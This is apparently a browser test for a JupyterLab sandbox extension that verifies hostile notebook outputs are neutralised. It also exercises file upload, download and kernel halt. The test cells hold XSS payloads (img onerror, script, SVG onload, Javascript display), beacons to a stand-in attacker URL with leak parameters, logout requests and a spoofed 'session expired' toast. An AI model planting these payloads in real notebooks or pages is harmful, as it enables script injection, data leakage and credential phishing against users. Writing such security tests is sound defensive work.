// Browser test of sandboxed Python output, run with plain `node` by tests/test_sandbox_browser.py.
//
// Opens JupyterLab, starts a notebook with the "Python 3 (microagent sandbox)" kernel from the launcher, runs a
// plot and hostile cells; then a notebook with the local Python kernel running the same through
// `%%microagent python`. Checks a plot <img> shows and `window.__pwned` stays undefined in the page.
//
// Environment: LAB_URL (ending in '/'), LAB_TOKEN, SCREENSHOTS, CHROMIUM (default /usr/bin/chromium).
// Prints progress and, on success, a last line `RESULT {...}`; exits non-zero otherwise.
import path from 'node:path';

import { must, openBrowser } from './lab.mjs';

const LAB_URL = must('sandbox.spec', 'LAB_URL');
const TOKEN = must('sandbox.spec', 'LAB_TOKEN');
must('sandbox.spec', 'ATTACKER_URL');
const result = { screenshots: [], pwned: {}, loggedIn: {}, toastInside: {}, workplace: {} };
const { page, step, shots: SHOTS, finish } = await openBrowser('sandbox.spec', { timeout: 60_000, result });

const HOSTILE = [
  'from IPython.display import HTML, SVG, Javascript, display',
  'display(HTML(\'<img src=x onerror="window.__pwned=1">\'))',
  'display(HTML("<script>window.__pwned=2</script>"))',
  'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="window.__pwned=4">' +
    '<rect width="10" height="10"/></svg>\'))',
  'display(Javascript("window.__pwned=3"))'
].join('\n');
// Zero-click fetch, same-origin request and UI-spoofing vectors: ATTACKER (a server of the test on 127.0.0.1)
// must see no request from rendering them, the user stays logged in, the "toast" stays in its output area.
const ATTACKER = process.env.ATTACKER_URL;
const LEAKY_HTML = `<img src="${ATTACKER}pixel.gif?leak=html"><img src="http:/logout?img"><img src="/api/contents?img">` +
  `<a href="http:/logout">logout</a><a href="${ATTACKER}click">a link</a>` +
  '<div class="Toastify__toast-container Toastify__toast-container--top-right" ' +
  'style="position:fixed;top:0;left:0;z-index:99999;margin-top:-300px">session expired, sign in again</div>' +
  '<p>MARKER-RENDERED</p>';
const LEAKY_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
  `width="20" height="20"><image href="${ATTACKER}svg.png" width="5" height="5"/>` +
  `<image xlink:href="${ATTACKER}svg2.png" width="5" height="5"/><rect width="3" height="3"/></svg>`;
const LEAKY = [
  'from IPython.display import HTML, SVG, Markdown, Latex, display',
  `display(HTML(${JSON.stringify(LEAKY_HTML)}))`,
  `display(Markdown(${JSON.stringify(`![pixel](${ATTACKER}pixel.gif?leak=md) [md link](http:/logout)`)}))`,
  `display(SVG(${JSON.stringify(LEAKY_SVG)}))`,
  `display(Latex(${JSON.stringify(`$\\bbox[background-image:url(${ATTACKER}tex.png)]{x}$`)}))`
].join('\n');
const PLOT = 'import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()';

async function openNotebook(cardText) {
  await page.goto(`${LAB_URL}lab?token=${encodeURIComponent(TOKEN)}&reset`, { waitUntil: 'domcontentloaded' });
  const card = page.locator('.jp-LauncherCard', { hasText: cardText }).first();
  await card.waitFor({ state: 'visible', timeout: 90_000 });
  await card.click();
  await page.locator('.jp-NotebookPanel .jp-Cell').first().waitFor({ state: 'visible' });
  // a cell run before the kernel is connected is not executed: wait for the status bar's "| Idle"
  await page.locator('.jp-StatusBar-Widget', { hasText: /\| Idle/ }).first().waitFor({ timeout: 300_000 });
}

/** Type `code` into the last cell and run it; wait until the notebook's kernel is idle again. */
async function runCell(code, timeout = 300_000) {
  const cells = page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-Cell');
  const editor = cells.last().locator('.cm-content');
  await editor.click();
  await page.keyboard.insertText(code);
  const before = await page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-InputPrompt').last().textContent();
  await page.keyboard.press('Shift+Enter');
  await page.waitForFunction(
    () => {
      const prompts = [...document.querySelectorAll('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-InputPrompt')];
      const done = prompts.length >= 2 && /\[\d+\]/.test(prompts[prompts.length - 2].textContent);
      return done;
    },
    before,
    { timeout, polling: 250 }
  );
}

async function pwned() {
  return page.evaluate(() => (typeof window.__pwned === 'undefined' ? 'undefined' : String(window.__pwned)));
}

async function checkNotebook(label, prefix) {
  await runCell(prefix + PLOT);
  await page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output img').first()
    .waitFor({ state: 'visible', timeout: 60_000 });
  step(`${label}: plot shown`);
  await runCell(prefix + HOSTILE);
  await page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output', { hasText: '[microagent] dropped' })
    .first().waitFor({ state: 'visible', timeout: 60_000 });
  await page.waitForTimeout(1000); // give any handler that could fire a chance to (the assertion is its absence)
  result.pwned[label] = await pwned();
  await runCell(prefix + LEAKY);
  const out = page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output', { hasText: 'MARKER-RENDERED' })
    .first();
  await out.waitFor({ state: 'visible', timeout: 60_000 });
  // rendezvous: any fetch the render started was issued before this one, which the attacker records last
  await page.evaluate(url => fetch(url, { mode: 'no-cors' }).catch(() => null), `${ATTACKER}sentinel-${label}`);
  result.loggedIn[label] = await page.evaluate(async url => (await fetch(url)).status, `${LAB_URL}api/contents`);
  const toast = await page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output',
    { hasText: 'session expired, sign in again' }).first();
  const area = await toast.boundingBox();
  const inner = await toast.getByText('session expired, sign in again').boundingBox();
  result.toastInside[label] = !!(area && inner && inner.y >= area.y - 1 && inner.x >= area.x - 1 &&
    inner.y + inner.height <= area.y + area.height + 1);
  const shot = path.join(SHOTS, `sandbox-${label}.png`);
  await page.screenshot({ path: shot });
  result.screenshots.push(shot);
  step(`${label}: hostile outputs rendered, window.__pwned is ${result.pwned[label]}`);
}

/** The text of the last output of the visible notebook. */
async function lastOutput() {
  return (await page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output').last().textContent()) ?? '';
}

async function api(pathname) {
  return page.evaluate(
    async ([base, token, p]) => (await fetch(`${base}microagent/api/${p}`, { headers: { Authorization: `token ${token}` } })).json(),
    [LAB_URL, TOKEN, pathname]
  );
}

/** The sandbox as a workplace: the status item, the board's steps, the panel's card naming the notebook,
 * Upload and Download, and Halt through the kernel (asks, restarts the kernel in a new VM, which works). */
async function checkWorkplace() {
  const w = result.workplace;
  const item = page.locator('#microagent-sandbox-status');
  await page.waitForFunction(
    () => /sandbox nbk-.*network .*CPU \d+%.*uses \d+ MiB/.test(document.querySelector('#microagent-sandbox-status')?.textContent ?? ''),
    undefined, { timeout: 60_000 });
  w.statusItem = await item.textContent();
  step(`status item: ${w.statusItem}`);
  const board = await api('kernels');
  const entry = board.find(e => /\.ipynb$/.test(e.notebook ?? '') && e.phase === 'ready');
  w.boardSteps = (entry?.steps ?? []).map(s => s.message);
  w.notebook = entry?.notebook;
  const first = entry?.workspace;
  const tab = page.locator('.jp-SideBar li[data-id="microagent-panel"]');
  if (!(await page.locator('#microagent-panel').isVisible())) {
    await tab.click();
  }
  const row = page.locator(`#microagent-panel li[data-ws="${first}"]`);
  await row.locator('.ma-Owner').waitFor({ state: 'visible', timeout: 30_000 });
  w.owner = await row.locator('.ma-Owner').textContent();
  step(`panel card of ${first}: ${w.owner}`);

  // Upload: a file from this computer into the VM, read by the kernel
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), row.locator('.ma-File-upload').click()]);
  await chooser.setFiles({ name: 'upload.txt', mimeType: 'text/plain', buffer: Buffer.from('uploaded-from-the-browser\n') });
  const pathInput = page.locator('.jp-Dialog input');
  await pathInput.waitFor({ state: 'visible' });
  w.uploadDefault = await pathInput.inputValue();
  await page.locator('.jp-Dialog .jp-mod-accept').click();
  await page.locator('.jp-Dialog').waitFor({ state: 'detached' });
  await page.getByText(/^Uploaded upload\.txt to /).first().waitFor({ timeout: 120_000 });
  await runCell(`print(open(${JSON.stringify(w.uploadDefault)}).read().strip())`);
  w.uploadRead = (await lastOutput()).trim();
  step(`uploaded to ${w.uploadDefault}; the kernel read ${JSON.stringify(w.uploadRead)}`);

  // Download: a file the kernel wrote, saved by the browser
  await runCell("open('/tmp/result.csv', 'w').write('a,b\\n1,2\\n')");
  await row.locator('.ma-File-download').click();
  await pathInput.waitFor({ state: 'visible' });
  await pathInput.fill('/tmp/result.csv');
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('.jp-Dialog .jp-mod-accept').click()]);
  const fs = await import('node:fs/promises');
  w.downloadName = download.suggestedFilename();
  w.downloaded = await fs.readFile(await download.path(), 'utf8');
  step(`downloaded ${w.downloadName}: ${JSON.stringify(w.downloaded)}`);

  // Halt on the kernel's card: asks, then the kernel restarts in a new VM and works
  await runCell('before_halt = 1');
  await row.locator('.ma-Action-halt').click();
  const dialog = page.locator('.jp-Dialog');
  await dialog.waitFor({ state: 'visible' });
  w.haltDialog = (await dialog.textContent()) ?? '';
  const shot = path.join(SHOTS, 'sandbox-halt-dialog.png');
  await page.screenshot({ path: shot });
  result.screenshots.push(shot);
  await dialog.locator('button', { hasText: 'Restart Kernel' }).click();
  await row.waitFor({ state: 'detached', timeout: 300_000 });
  await page.waitForFunction(
    old => /sandbox nbk-/.test(document.querySelector('#microagent-sandbox-status')?.textContent ?? '') &&
      !(document.querySelector('#microagent-sandbox-status')?.textContent ?? '').includes(old),
    first, { timeout: 300_000 });
  try {
    await page.locator('.jp-StatusBar-Widget', { hasText: /\| Idle/ }).first().waitFor({ timeout: 120_000 });
  } finally {
    w.statusBarAfterRestart = await page.locator('#jp-main-statusbar').textContent();
    step(`status bar after the restart: ${w.statusBarAfterRestart}`);
  }
  await runCell("print('after-restart', 'before_halt' in globals(), 40 + 2)");
  w.afterHalt = (await lastOutput()).trim();
  w.secondVm = (await item.textContent()) ?? '';
  step(`after Halt → Restart Kernel: ${w.afterHalt} (${w.secondVm})`);
}

try {
  await openNotebook('microagent sandbox');
  step('notebook with the sandboxed kernel started from the launcher');
  await checkNotebook('sandboxed-kernel', '');
  await checkWorkplace();
  await openNotebook('Python 3 (ipykernel)');
  step('notebook with the local kernel started');
  await runCell('%load_ext microagent_jupyter');
  await checkNotebook('magic', '%%microagent python\n');
  result.ok = Object.values(result.pwned).every(v => v === 'undefined') &&
    Object.values(result.loggedIn).every(v => v === 200) && Object.values(result.toastInside).every(v => v);
} catch (error) {
  result.error = String(error?.stack ?? error);
  try {
    const shot = path.join(SHOTS, 'sandbox-failure.png');
    await page.screenshot({ path: shot });
    result.screenshots.push(shot);
  } catch {}
} finally {
  await finish();
}
